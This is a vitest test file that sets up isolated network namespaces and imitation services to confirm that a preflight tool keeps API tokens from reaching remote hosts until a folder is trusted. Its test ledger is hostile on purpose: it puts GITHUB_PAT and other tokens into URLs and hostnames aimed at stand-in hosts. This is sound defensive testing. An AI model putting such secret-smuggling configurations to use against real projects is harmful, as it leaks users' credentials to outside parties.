// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the ledger's own variables
import { execFile, spawn, spawnSync } from 'node:child_process';
import { mkdir, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { programFile, startCommand } from './rig/program.ts';
import { inFolder } from './rig/stack.ts';

/*
 * Another machine, made of two network namespaces and a cable between them:
 *
 *   here 203.0.113.1 ── veth ── there 203.0.113.2   imitates Dify, LM Studio and a Docker Engine, and writes down what it gets
 *
 * The addresses look public (RFC 5737), and no packet leaves the two namespaces. It takes root, which the docker tier has.
 */
const canMakeNamespaces = process.platform === 'linux' && process.getuid?.() === 0 && spawnSync('ip', ['-V']).status === 0;

const name = `pf${process.pid.toString(36)}`;
const [here, there] = [`${name}h`, `${name}t`];
const address = '203.0.113.2';

const ip = (...words: readonly string[]) => promisify(execFile)('ip', words);

type Got = { readonly port: number; readonly method: string; readonly url: string; readonly headers: object; readonly body: string };

/** Starts the imitation over there for the time of `use`; what it got is in the list. */
async function withImitation<T>(ports: readonly number[], use: (got: readonly Got[]) => Promise<T>): Promise<T> {
  const script = join(import.meta.dirname, 'rig', 'imitation.mjs');
  const child = spawn('ip', ['netns', 'exec', there, process.execPath, script, ...ports.map(String)], {
    stdio: ['ignore', 'pipe', 'inherit'],
  });
  const got: Got[] = [];
  let open = 0;
  await new Promise<void>((ready, failed) => {
    child.once('exit', () => failed(new Error('the imitation ended')));
    createInterface(child.stdout).on('line', (line) => {
      const told = JSON.parse(line) as Got & { readonly listening?: number };
      if (told.listening === undefined) got.push(told);
      else if (++open === ports.length) ready();
    });
  });
  try {
    return await use(got);
  } finally {
    child.removeAllListeners('exit');
    const ended = new Promise((end) => child.once('exit', end));
    child.kill();
    await ended;
  }
}

const key = ['app', 'Kq7Zt2Lm9Xw4Bv6Np3Rs8Yd5'].join('-');
const modelToken = ['sk', 'lm', 'Abcdef12:Kq7Zt2Lm9Xw4Bv6Np3Rs'].join('-');
const pat = 'canaryPat99Kq7Zt2Lm9';
const env = { DIFY_API_KEY: key, LM_API_TOKEN: modelToken, GITHUB_PAT: pat };
const canaries = [key, modelToken, pat, 'canarypat99'];

const hostile = (host: string) => `version: 1
front: dify
roles:
  dify: { url: "http://${host}", kind: dify }
  lms: { url: "http://${host}:1234", kind: lmstudio, token: LM_API_TOKEN }
  web: { url: "http://${host}:8081/x/\${GITHUB_PAT}", kind: http, expect: { body: "\${GITHUB_PAT}" } }
path: [dify, { role: lms, as: "http://${host}:1234/\${GITHUB_PAT}" }]
chat: { to: dify, token: DIFY_API_KEY, query: "say \${GITHUB_PAT}", within: 20s }
tokens:
  DIFY_API_KEY: { kind: dify-app }
  LM_API_TOKEN: { kind: lmstudio }
`;

const ports = [80, 1234, 8081];

type Report = {
  readonly trusted: boolean;
  readonly exitCode: number;
  readonly checks: readonly { readonly id: string; readonly verdict: string; readonly message: string }[];
};

/** Runs the program over here, in a folder of its own, and gives its report. */
async function checkHere(folder: string, ...words: readonly string[]): Promise<Report> {
  const ran = await sayHere(folder, 'check', '--format', 'json', ...words);
  return JSON.parse(ran.stdout) as Report;
}

async function sayHere(folder: string, ...words: readonly string[]) {
  return startCommand(['ip', 'netns', 'exec', here, process.execPath, await programFile(), ...words], { cwd: folder, env }).done;
}

const of = (report: Report, id: string) => report.checks.find((check) => check.id === id);
const leaks = (got: readonly Got[]) => got.filter((one) => canaries.some((canary) => JSON.stringify(one).includes(canary)));

describe.skipIf(!canMakeNamespaces)('another machine', () => {
  beforeAll(async () => {
    await programFile();
    for (const one of [here, there]) {
      await ip('netns', 'add', one);
      await ip('-n', one, 'link', 'set', 'lo', 'up');
    }
    await ip('link', 'add', here, 'netns', here, 'type', 'veth', 'peer', 'name', there, 'netns', there);
    await ip('-n', here, 'addr', 'add', '203.0.113.1/24', 'dev', here);
    await ip('-n', there, 'addr', 'add', `${address}/24`, 'dev', there);
    await ip('-n', there, 'addr', 'add', '192.168.77.2/24', 'dev', there);
    await ip('-n', here, 'addr', 'add', '192.168.77.1/24', 'dev', here);
    await ip('-n', here, 'link', 'set', here, 'up');
    await ip('-n', there, 'link', 'set', there, 'up');
    await mkdir(`/etc/netns/${here}`, { recursive: true });
    await writeFile(
      `/etc/netns/${here}/hosts`,
      `127.0.0.1 localhost\n${address} dify.example.com both.example.com\n127.0.0.1 both.example.com\n`,
    );
    await writeFile(`/etc/netns/${here}/resolv.conf`, 'nameserver 127.0.0.1\noptions timeout:1 attempts:1\n');
  }, 120_000);

  afterAll(async () => {
    for (const one of [here, there]) await ip('netns', 'del', one).catch(() => undefined);
    await rm(`/etc/netns/${here}`, { recursive: true, force: true });
  });

  for (const host of [address, 'dify.example.com']) {
    it(`gets no token and no variable from a folder that nobody trusted, by ${host}`, async () => {
      await inFolder(async (folder) => {
        await writeFile(join(folder, 'ports.yml'), hostile(host));
        await withImitation(ports, async (got) => {
          const report = await checkHere(folder);
          expect(leaks(got)).toEqual([]);
          expect(got.map(({ method, url }) => `${method} ${url}`)).toContain('GET /v1/');
          expect(got.filter(({ method }) => method !== 'GET')).toEqual([]);
          expect(report).toMatchObject({ trusted: false, exitCode: 3 });
          expect(of(report, 'endpoint.identity:dify')?.verdict).toBe('pass');
          const asked: Readonly<Record<string, string>> = {
            'dify.app:dify': `send DIFY_API_KEY to ${host}`,
            'lmstudio.model:lms': `send LM_API_TOKEN to ${host}`,
            'endpoint.answers:web': `send GITHUB_PAT to ${host}`,
          };
          for (const [id, wish] of Object.entries(asked)) {
            expect(of(report, id)).toMatchObject({ verdict: 'unknown', message: expect.stringContaining(wish) });
            expect(of(report, id)?.message).toContain('preflight trust');
          }
          expect(JSON.stringify(report)).not.toContain('canary');
        });
      });
    }, 120_000);

    it(`gets both once the folder is trusted, by ${host}`, async () => {
      await inFolder(async (folder) => {
        await writeFile(join(folder, 'ports.yml'), hostile(host));
        const told = await sayHere(folder, 'trust', '--yes');
        expect(told.stdout).toContain(`send DIFY_API_KEY to ${host}`);
        await withImitation(ports, async (got) => {
          const report = await checkHere(folder);
          expect(report.trusted).toBe(true);
          expect(of(report, 'dify.app:dify')?.verdict).toBe('pass');
          for (const value of [key, modelToken, pat]) expect(got.filter((one) => JSON.stringify(one).includes(value))).not.toEqual([]);
          expect(JSON.stringify(report)).not.toContain('canary');
        });
      });
    }, 120_000);
  }

  it('that has another name than the trusted one gets nothing either', async () => {
    await inFolder(async (folder) => {
      await writeFile(join(folder, 'ports.yml'), hostile('dify.example.com'));
      expect((await sayHere(folder, 'trust', '--yes')).code).toBe(0);
      await writeFile(join(folder, 'ports.yml'), hostile(address));
      await withImitation(ports, async (got) => {
        expect(await checkHere(folder)).toMatchObject({ trusted: false });
        expect(leaks(got)).toEqual([]);
      });
    });
  }, 120_000);

  it('is never reached by a name that leads home too: only the address at home is connected to', async () => {
    await inFolder(async (folder) => {
      await writeFile(join(folder, 'ports.yml'), hostile('both.example.com'));
      await withImitation(ports, async (got) => {
        await checkHere(folder);
        expect(leaks(got)).toEqual([]);
      });
    });
  }, 120_000);

  it('is not even looked up when a variable stands in its name', async () => {
    await inFolder(async (folder) => {
      const ledger =
        'version: 1\nroles:\n  web: { url: "http://${GITHUB_PAT}.example.com", kind: http }\n  raw: { url: "tcp://${GITHUB_PAT}.example.com:99" }\n';
      await writeFile(join(folder, 'ports.yml'), ledger);
      const report = await checkHere(folder);
      for (const id of ['endpoint.answers:web', 'endpoint.answers:raw']) {
        expect(of(report, id)).toMatchObject({ verdict: 'unknown', message: expect.stringContaining('send GITHUB_PAT to ….example.com') });
      }
    });
  }, 60_000);

  it('in a private network is a neighbour: nobody is asked, and everything works', async () => {
    await inFolder(async (folder) => {
      await writeFile(join(folder, 'ports.yml'), hostile('192.168.77.2'));
      expect((await sayHere(folder, 'trust')).stdout).toContain('nothing to trust');
      await withImitation(ports, async (got) => {
        const report = await checkHere(folder);
        expect(of(report, 'dify.app:dify')?.verdict).toBe('pass');
        expect(got.filter((one) => JSON.stringify(one).includes(key))).not.toEqual([]);
      });
    });
  }, 120_000);

  it('with an engine that the ledger names is connected to only when trusted', async () => {
    await inFolder(async (folder) => {
      const named = `version: 1\ndocker: { host: "tcp://${address}:2375" }\nroles:\n  api: { owner: { compose: api }, inside: "http://api:5001/health" }\n`;
      await writeFile(join(folder, 'ports.yml'), named);
      await withImitation([2375], async (got) => {
        const report = await checkHere(folder);
        expect(got).toEqual([]);
        expect(of(report, 'docker.engine:docker')).toMatchObject({
          verdict: 'unknown',
          message: expect.stringContaining(`tcp://${address}:2375`),
        });
        await writeFile(
          join(folder, 'ports.yml'),
          'version: 1\ndocker: { host: "tcp://${GITHUB_PAT}.example.com:2375" }\nroles:\n  api: { owner: { compose: api }, inside: "http://api:5001" }\n',
        );
        expect(of(await checkHere(folder), 'docker.engine:docker')?.message).toContain('tcp://….example.com:2375');
        expect((await sayHere(folder, 'trust')).stdout).toContain('tcp://….example.com:2375');
        await writeFile(join(folder, 'ports.yml'), named);
        await checkHere(folder, '--trust');
        expect(got.map(({ url }) => url)).toContain('/_ping');
      });
    });
  }, 120_000);
});
